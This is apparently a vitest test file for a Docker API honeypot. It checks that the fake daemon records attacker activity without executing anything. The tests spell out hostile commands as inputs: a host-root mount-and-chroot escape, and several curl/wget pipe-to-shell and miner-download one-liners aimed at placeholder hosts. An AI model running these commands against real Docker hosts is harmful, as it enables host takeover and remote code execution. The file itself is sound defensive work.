// The real docker CLI (28.x) against the trap: run with the host-root escape, ps, exec, cp. It must complete as
// with a real daemon (pull dance, attach, wait, exit code), and every step must land in the events.
import { createHash } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dockerAsync } from '../../lab/index.js';
import { commands, indicators, startTestTrap, type TestTrap } from './helpers.js';

let t: TestTrap;
let env: Record<string, string>;
beforeAll(async () => {
  t = await startTestTrap();
  env = { DOCKER_HOST: `tcp://127.0.0.1:${t.port}`, DOCKER_CONFIG: mkdtempSync(join(tmpdir(), 'pcl-trap-cli-')) };
});
afterAll(async () => {
  expect(t.warnings).toEqual([]);
  await t.close();
});

describe('trap: real docker CLI', () => {
  it('docker run -v /:/mnt alpine chroot /mnt sh -c "curl ...|sh" completes with exit code 0', async () => {
    const r = await dockerAsync(env, ['run', '-v', '/:/mnt', 'alpine', 'chroot', '/mnt', 'sh', '-c', 'curl http://example.invalid/x.sh|sh']);
    expect(r.stderr).toContain("Unable to find image 'alpine:latest' locally");
    expect(r.stderr).toContain('Status: Downloaded newer image for alpine:latest');
    expect(r.code).toBe(0);
    const routes = t.eventsOf('trap.request.received').map((e) => e.route);
    // The pull dance, then attach and wait before start, exactly as docker/cli's run.go drives a real daemon.
    const i = routes.indexOf('container.create');
    expect(routes.slice(i, i + 3)).toEqual(['container.create', 'image.pull', 'container.create']);
    expect(routes).toEqual(expect.arrayContaining(['container.attach', 'container.wait', 'container.start']));
    expect(routes.indexOf('container.start')).toBeGreaterThan(routes.indexOf('container.wait'));
    const created = t.eventsOf('trap.container.create_attempted').filter((e) => e.outcome === 'created');
    expect(created).toHaveLength(1);
    expect(created[0]).toMatchObject({ image: 'alpine', binds: ['/:/mnt'], cmd: ['chroot', '/mnt', 'sh', '-c', 'curl http://example.invalid/x.sh|sh'] });
    const curl = t.eventsOf('trap.command.observed').find((e) => e.command === 'curl http://example.invalid/x.sh');
    expect(curl).toMatchObject({ chroot: '/mnt' });
    expect(indicators(t, 'url')).toContain('http://example.invalid/x.sh');
    expect(indicators(t, 'image')).toContain('alpine:latest');
  });

  it('docker run prints the inert output and returns it through attach frames', async () => {
    const r = await dockerAsync(env, ['run', '--rm', 'alpine', 'sh', '-c', 'echo pwned; uname -m']);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('pwned\nx86_64\n');
  });

  it('docker run -i feeds a script on stdin: it is analysed and answered, nothing runs', async () => {
    const r = await dockerAsync(env, ['run', '-i', '--rm', 'alpine', 'sh'], 'id\nwget -q http://198.51.100.60/miner -O /tmp/m && /tmp/m\n');
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^uid=0\(root\)/);
    const stdinCmds = t.eventsOf('trap.command.observed').filter((e) => e.field === 'stdin').map((e) => e.command);
    expect(stdinCmds).toEqual(['id', 'wget -q http://198.51.100.60/miner -O /tmp/m', '/tmp/m']);
    expect(indicators(t, 'url')).toContain('http://198.51.100.60/miner');
  });

  it('docker stats --no-stream reads believable samples for every running decoy', async () => {
    const r = await dockerAsync(env, ['stats', '--no-stream', '--format', '{{.Name}} {{.PIDs}} {{.MemUsage}}']);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^web 3 9MiB \/ 15\.52GiB$/m);
  });

  it('docker ps shows the decoys and the session\'s containers', async () => {
    const r = await dockerAsync(env, ['ps', '-a', '--format', '{{.Names}} {{.Image}} {{.Status}}']);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^web nginx:1\.25 Up 2 weeks$/m);
    expect(r.stdout).toMatch(/ alpine Exited \(0\) /);
  });

  it('docker exec into a decoy runs nothing and records the command', async () => {
    const r = await dockerAsync(env, ['exec', 'web', 'sh', '-c', 'id; wget -qO- http://192.0.2.10/s.sh | sh']);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('uid=0(root)');
    const ex = t.eventsOf('trap.exec.create_attempted').at(-1);
    expect(ex).toMatchObject({ container_name: 'web', outcome: 'created', cmd: ['sh', '-c', 'id; wget -qO- http://192.0.2.10/s.sh | sh'] });
    expect(commands(t)).toContain('wget -qO- http://192.0.2.10/s.sh');
    expect(indicators(t, 'ipv4')).toContain('192.0.2.10');
  });

  it('docker exec -i reads a script on stdin, answers it and exits 0', async () => {
    const r = await dockerAsync(env, ['exec', '-i', 'cache', 'sh'], 'whoami\ncurl -s http://198.51.100.61/c.sh | sh\n');
    expect(r.code).toBe(0);
    expect(r.stdout).toBe('root\n');
    expect(t.eventsOf('trap.command.observed').filter((e) => e.field === 'stdin' && e.exec !== undefined).map((e) => e.command))
      .toEqual(['whoami', 'curl -s http://198.51.100.61/c.sh', 'sh']);
  });

  it('docker events replays what this session did, like the engine event stream', async () => {
    const r = await dockerAsync(env, ['events', '--since', '10m', '--until', '0s', '--format', '{{.Type}} {{.Action}}']);
    expect(r.code).toBe(0);
    const lines = r.stdout.trim().split('\n');
    expect(lines).toEqual(expect.arrayContaining(['image pull', 'container create', 'container start', 'container die', 'container destroy']));
    expect(lines.some((l) => l.startsWith('container exec_create: sh -c id;')), lines.join('\n')).toBe(true);
  });

  it('docker cp uploads a tar whose members and hashes are recorded', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'pcl-trap-cp-'));
    const file = join(dir, 'init.sh');
    const content = '#!/bin/sh\ncurl -s http://203.0.113.50/m | sh\n';
    writeFileSync(file, content);
    const r = await dockerAsync(env, ['cp', file, 'web:/tmp/init.sh']);
    expect(r.code).toBe(0);
    const up = t.eventsOf('trap.archive.uploaded').at(-1);
    expect(up).toMatchObject({ container_name: 'web', path: '/tmp', truncated: false });
    const members = up?.members as Array<{ name: string; sha256: string; size: number }>;
    expect(members.map((m) => m.name)).toEqual(['init.sh']);
    expect(members[0]?.sha256).toBe(createHash('sha256').update(content).digest('hex'));
    expect(members[0]?.size).toBe(Buffer.byteLength(content));
    expect(indicators(t, 'url')).toContain('http://203.0.113.50/m');
  });
});
